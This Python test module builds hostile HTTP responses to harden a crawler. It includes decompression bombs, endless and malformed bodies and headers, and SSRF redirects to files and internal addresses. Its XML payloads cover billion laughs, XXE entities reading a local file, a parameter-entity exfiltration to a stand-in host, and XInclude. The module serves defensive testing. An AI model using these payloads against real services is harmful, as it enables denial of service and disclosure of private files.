"""What a hostile server can answer, to whatever it is asked for: tables for tests and a bench.

Each answer is made for a role: what the crawler believes to ask for. Documents are whole and valid
but for what makes them hostile, so that the trap lies behind the first look.
"""

import gzip
import itertools
import json
import random
import zlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from functools import cache
from html import escape
from typing import Literal

import brotli
import zstandard

from tests.support.http import Response, endless, trickle
from tests.support.prose import paragraphs

Role = Literal["feed", "sitemap", "wordpress", "listing", "page", "robots"]
DOCUMENTS: tuple[Role, ...] = ("feed", "sitemap", "wordpress", "listing")
"""The roles that are sources."""

TYPES = {
    "feed": "application/rss+xml",
    "sitemap": "application/xml",
    "wordpress": "application/json",
    "listing": "text/html; charset=utf-8",
    "page": "text/html; charset=utf-8",
    "robots": "text/plain",
}
MB = 2**20
TITLE = "The ferry left the harbour before the storm"
ATOM = "http://www.w3.org/2005/Atom"
DATE = "2026-02-28T10:00:00+00:00"


@dataclass(frozen=True)
class Sizes:
    """How big the big ones are."""

    bomb: int
    """Bytes of a bomb when unpacked."""
    body: int
    """Bytes of a long body, of an attribute, of a text."""
    header: int
    tags: int
    """Tags in tags."""
    links: int
    attributes: int
    """Of one tag."""
    headers: int
    """Of one answer."""
    pause: float
    """Seconds between two bytes of a slow body."""
    layers: int
    """Encodings of one answer."""


SMALL = Sizes(24 * MB, 2 * MB, MB // 4, 30_000, 3_000, 20_000, 2_000, 0.1, 60)
"""For tests with `max_size` of 1 MB: every limit is passed."""
FULL = Sizes(1024 * MB, 100 * MB, MB, 1_000_000, 100_000, 300_000, 10_000, 1.0, 500)


def document(
    role: Role, base: str, *, title: str = TITLE, date: str = DATE, inside: str = "", path: str = ""
) -> str:
    """A whole document of the role with one article in it, or several links to such.

    `inside` stands where text stands; markup of the role's own kind may be in it.
    """
    path = path or "/2026/02/28/the-ferry-left-the-harbour-1"
    name = escape(title)
    match role:
        case "feed":
            return (
                f"<rss version='2.0'><channel><title>{name}</title><item><title>{name}</title>"
                f"<link>{base}{path}</link><pubDate>{date}</pubDate>"
                f"<description>{inside}</description></item></channel></rss>"
            )
        case "sitemap":
            return (
                "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9' "
                "xmlns:news='http://www.google.com/schemas/sitemap-news/0.9'>"
                f"<url><loc>{base}{path}</loc><lastmod>{date}</lastmod><news:news><news:title>{name}"
                f"</news:title><news:publication_date>{date}</news:publication_date></news:news>"
                f"{inside}</url></urlset>"
            )
        case "wordpress":
            post = {"id": 1, "link": f"{base}{path}", "date_gmt": date[:19]}
            texts = {"title": {"rendered": name}, "content": {"rendered": inside}}
            return json.dumps([{**post, **texts}], ensure_ascii=False)
        case "listing":
            links = "".join(
                f"<article><h2><a href='{base}{path}{number}'>{name}</a></h2></article>"
                for number in range(6)
            )
            return f"<!doctype html><html><title>{name}</title><body>{links}{inside}</body></html>"
        case "page":
            # No two sites print the same.
            text = "".join(f"<p>{line}</p>" for line in paragraphs(random.Random(base)))
            return (
                f"<!doctype html><html lang='en'><head><title>{name}</title>"
                f"<meta property='article:published_time' content='{date}'></head><body><article>"
                f"<h1>{name}</h1>{text}{inside}</article></body></html>"
            )
        case "robots":
            return f"User-agent: *\nDisallow: /closed/\n{inside}\n"


Answers = Callable[[str, Role], Response]
"""The answer of the server at an address to a question in a role."""


def _given(role: Role, body: str | bytes, **headers: str) -> Response:
    content = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
    return Response(200, content, {"Content-Type": TYPES[role], **headers})


def _inside(text: str) -> Answers:
    return lambda base, role: _given(role, document(role, base, inside=text))


def _before(text: str, inside: str = "") -> Answers:
    return lambda base, role: _given(role, text + document(role, base, inside=inside))


def _titled(title: str) -> Answers:
    return lambda base, role: _given(role, document(role, base, title=title))


def _dated(date: str) -> Answers:
    return lambda base, role: _given(role, document(role, base, date=date))


def _instead(body: bytes, **headers: str) -> Answers:
    return lambda base, role: _given(role, body, **headers)


def _to(location: str, status: int = 302) -> Answers:
    return lambda base, role: Response(status, headers={"Location": location.format(base=base)})


@cache
def _packed(name: str, length: int) -> bytes:
    spaces = b" " * min(length, 16 * MB)
    if length > len(spaces) and name in {"gzip", "deflate"}:
        return _packed_in_pieces(name, length, spaces)
    body = spaces * max(1, length // len(spaces))
    packers: dict[str, Callable[[bytes], bytes]] = {
        "gzip": lambda body: gzip.compress(body, 1),
        "deflate": lambda body: zlib.compress(body, 1),
        "br": lambda body: brotli.compress(body, quality=1),
        "zstd": lambda body: zstandard.compress(body, 1),
    }
    return packers[name](body)


def _packed_in_pieces(name: str, length: int, piece: bytes) -> bytes:
    packer = zlib.compressobj(1, wbits=31 if name == "gzip" else 15)
    return b"".join(packer.compress(piece) for _ in range(length // len(piece))) + packer.flush()


def _bomb(name: str, length: int) -> Answers:
    return lambda base, role: _given(role, _packed(name, length), **{"Content-Encoding": name})


@cache
def _layered(length: int, layers: int) -> bytes:
    """Stored in each layer but the last: small on the wire, and as large as may be in between."""
    body = bytes(length)
    for level in (*[0] * layers, 9):
        packer = zlib.compressobj(level)
        body = packer.compress(body) + packer.flush()
    return body


def _packed_often(length: int, layers: int) -> Answers:
    names = ",".join(["deflate"] * (layers + 1))
    return lambda base, role: _given(role, _layered(length, layers), **{"Content-Encoding": names})


def _bomb_in_bomb(length: int) -> Answers:
    return lambda base, role: _given(
        role, gzip.compress(_packed("gzip", length)), **{"Content-Encoding": "gzip, gzip"}
    )


async def _long(head: str, filling: str, length: int) -> AsyncIterator[bytes]:
    yield head.encode()
    piece = filling.encode() * max(1, 65536 // len(filling))
    for _ in range(length // len(piece) + 1):
        yield piece


def _filled(filling: str, length: int) -> Answers:
    """A document that never gets past its text; too long to be held in memory here."""

    def answer(base: str, role: Role) -> Response:
        head = document(role, base, inside="@@").split("@@")[0]
        stream = _long(head, filling, length)
        return Response(200, headers={"Content-Type": TYPES[role]}, chunks=stream)

    return answer


def _stream(make: Callable[[], AsyncIterator[bytes]]) -> Answers:
    return lambda base, role: Response(200, headers={"Content-Type": TYPES[role]}, chunks=make())


OK = b"HTTP/1.1 200 OK\r\n"


def _raw(make: Callable[[], AsyncIterator[bytes]], first: bytes = b"") -> Answers:
    """Bytes without any head of ours; `first` stands before them."""
    return lambda base, role: Response(raw=first, chunks=make())


def _many_links(base: str, role: Role, count: int) -> Response:
    # On another site, so that not all of them are asked for; a page's must be on its own.
    site = base if role == "listing" else "http://127.0.0.98:8080"
    paths = (f"{site}/2026/02/28/a-long-story-of-the-harbour-{n}" for n in range(count))
    match role:
        case "feed":
            items = "".join(f"<item><link>{url}</link></item>" for url in paths)
            body = f"<rss version='2.0'><channel>{items}</channel></rss>"
        case "sitemap":
            body = f"<urlset>{''.join(f'<url><loc>{url}</loc></url>' for url in paths)}</urlset>"
        case "wordpress":
            body = json.dumps([{"id": n, "link": url} for n, url in enumerate(paths)])
        case "robots":
            body = "User-agent: *\n" + "".join(f"Sitemap: {url}\n" for url in paths)
        case _:
            body = "".join(f"<p><a href='{url}'>{TITLE}</a></p>" for url in paths)
    return _given(role, body)


def _huge_tag(attributes: str) -> Answers:
    def answer(base: str, role: Role) -> Response:
        tag = {"feed": "item", "sitemap": "url", "robots": "rule"}.get(role, "div")
        text = document(role, base, inside="@@")
        return _given(role, text.replace("@@", f"<{tag} {attributes}>"))

    return answer


def _changing() -> Answers:
    visits = itertools.count()

    def answer(base: str, role: Role) -> Response:
        number = next(visits)
        text = f"<p>Now {number} people have read this, and {number * 7} will.</p>"
        return _given(role, document(role, base, inside=text), ETag=f'"{number}"')

    return answer


def _calendar(base: str, role: Role) -> Response:
    """Every page leads to a next one, by every way that a next page can be named."""
    following = f"{base}/calendar/{role}"
    link = f'<a rel="next" class="next" href="{following}?page=@">Next</a>'
    text = {
        "feed": f"<atom:link xmlns:atom='{ATOM}' rel='next' href='{following}'/>",
        "sitemap": "",
        "robots": f"Sitemap: {following}",
    }.get(role, link)
    body = document(role, base, inside=text.replace("@", "2"))
    if role == "sitemap":
        places = "".join(f"<sitemap><loc>{following}{n}.xml</loc></sitemap>" for n in range(60))
        body = f"<sitemapindex>{places}</sitemapindex>"
    return Response(
        200, body.encode(), {"Content-Type": TYPES[role], "Link": f'<{following}>; rel="next"'}
    )


LAUGHS = (
    "<!DOCTYPE rss [<!ENTITY a 'ha'>"
    + "".join(
        f"<!ENTITY {this} '{f'&{before};' * 10}'>"
        for before, this in itertools.pairwise("abcdefghij")
    )
    + "]>"
)
PARAMETERS = (
    "<!DOCTYPE rss [<!ENTITY % file SYSTEM '{file}'>"
    "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.9:9/?%file;'>\">%all;]>"
)
OUTSIDE = "<!DOCTYPE rss [<!ENTITY x SYSTEM '{file}'>]>"
INCLUDE = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{file}' parse='text'/>"
DECEIT = "\u202egnp.exe \u200b\u2066Fer\u00adry\u2069 \ufeff\x1b[31mred\x07 \u200f\u061c"


def answers(sizes: Sizes, file: str = "file:///etc/hostname") -> dict[str, Answers]:
    """Every hostile answer by its name. `file`: the address of one that nobody may see."""
    s = sizes
    line = "x" * 70 + " "
    return {
        "a gzip bomb": _bomb("gzip", s.bomb),
        "a deflate bomb": _bomb("deflate", s.bomb),
        "a brotli bomb": _bomb("br", s.bomb),
        "a zstd bomb": _bomb("zstd", s.bomb),
        "a bomb in a bomb": _bomb_in_bomb(s.bomb),
        "a body packed again and again": _packed_often(s.body // 10, s.layers),
        "a bomb in a file": _instead(_packed("gzip", sizes.bomb)),
        "broken gzip": _instead(b"\x1f\x8b" + b"?" * 99, **{"Content-Encoding": "gzip"}),
        "a gzip file that is none": _instead(b"\x1f\x8b\x08" + b"?" * 99),
        "an unknown encoding": _instead(b"<rss/>", **{"Content-Encoding": "rot13"}),
        "a body that never ends": _stream(endless),
        "one line without end": _filled("x", s.body),
        "a text without end": _filled(line, s.body),
        "a body a byte at a time": _stream(lambda: trickle(b"<rss>" * 999, s.pause)),
        "an answer that never begins": lambda base, role: Response(200, b"", wait=3600),
        "a body cut short": lambda base, role: Response(200, b"<rss", promise=999),
        "an answer that is no HTTP": lambda base, role: Response(raw=b"\x00SSH-2.0-x\r\n\r\n" * 9),
        "a length below nought": lambda base, role: Response(
            raw=b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n<rss/>"
        ),
        "two lengths": lambda base, role: Response(
            raw=b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 900\r\n\r\n<rss/>"
        ),
        "a chunk of no size": lambda base, role: Response(
            raw=b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n<rss/>\r\n0\r\n\r\n"
        ),
        "a status of its own": lambda base, role: Response(999, b"<rss/>"),
        "a redirect to itself": lambda base, role: Response(302, headers={"Location": "?"}),
        "redirects back and forth": _to("{base}/there"),
        "a redirect to a file": _to(file),
        "a redirect to code": _to("javascript:alert(1)"),
        "a redirect to data": _to("data:text/html,<p>x"),
        "a redirect to another protocol": _to("gopher://127.0.0.9:8080/x"),
        "a redirect inside": _to("http://127.0.0.99:8080/"),
        "a redirect inside, in decimal": _to("http://2130706531:8080/"),
        "a redirect with a name and password": _to("http://a:b@127.0.0.99:8080/"),
        "a redirect to a megabyte": _to("{base}/" + "a" * s.header),
        "a redirect to nothing": _to("http://"),
        "a header of a megabyte": _instead(b"<rss/>", X="y" * s.header),
        "ten thousand headers": _instead(b"<rss/>", **{f"X-{n}": "y" for n in range(s.headers)}),
        "headers without end": _raw(lambda: endless(b"X: " + b"y" * 60 + b"\r\n"), OK),
        "headers without end, of one line": _raw(lambda: endless(b"y" * 4096), OK + b"X: "),
        "a header of endless lines": _raw(lambda: endless(b" y" * 30 + b"\r\n"), OK + b"X: y\r\n"),
        "interim answers without end": _raw(lambda: endless(b"HTTP/1.1 103 Early Hints\r\n\r\n")),
        "nothing but NULs": _instead(bytes(100_000)),
        "bytes of no encoding": _instead(b"\xff\xfe\xfa" * 9_999),
        "a picture": _instead(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 400),
        "NULs in every word": _inside("\x00a\x00b&#0;" * 999),
        "lone surrogates": _inside("\ud800 \udfff" * 999),
        "a charset that it is not": lambda base, role: _given(
            role, document(role, base), **{"Content-Type": "text/html; charset=utf-16be"}
        ),
        "a charset that there is not": lambda base, role: _given(
            role, document(role, base), **{"Content-Type": f"{TYPES[role]}; charset=x-none"}
        ),
        "a type that it is not": lambda base, role: _given(
            role, document(role, base), **{"Content-Type": "image/png"}
        ),
        "a million nested tags": _inside("<a>" * s.tags),
        "a million nested brackets": _before("[" * s.tags),
        "a start tag of a megabyte": _huge_tag(" ".join(f"a{n}=''" for n in range(s.attributes))),
        "an attribute of ten megabytes": _huge_tag(f"a='{line * (s.body // 720)}'"),
        "a tag of a long name": _inside(f"<{'a' * (s.body // 20)}>"),
        "a hundred thousand links": lambda base, role: _many_links(base, role, s.links),
        "links of a megabyte": lambda base, role: _given(
            role, document(role, base, path="/" + "a" * s.header)
        ),
        "a billion laughs": _before(LAUGHS, "&j;"),
        "an entity of a file": _before(OUTSIDE.format(file=file), "&x;"),
        "entities of parameters": _before(PARAMETERS.format(file=file), "&send;"),
        "an inclusion": _inside(INCLUDE.format(file=file)),
        "a date of 1601": _dated("1601-01-01T00:00:00Z"),
        "a date of 9999": _dated("9999-12-31T23:59:59-12:00"),
        "a date of no day": _dated("2026-02-31T25:61:61+99:99"),
        "titles that deceive": _titled(DECEIT),
        "a title of a megabyte": _titled("A b" * (s.header // 3)),
        "a page that changes at each visit": _changing(),
        "a calendar without end": _calendar,
    }


HOLDING: dict[str, Answers] = {
    "Retry-After of thirty years": lambda base, role: Response(
        429, headers={"Retry-After": "999999999"}
    ),
    "Retry-After in 9999": lambda base, role: Response(
        503, headers={"Retry-After": "Fri, 31 Dec 9999 23:59:59 GMT"}
    ),
    "Retry-After in words": lambda base, role: Response(429, headers={"Retry-After": "later"}),
}
"""Answers that make the whole host rest, so that nothing else can be asked of it."""
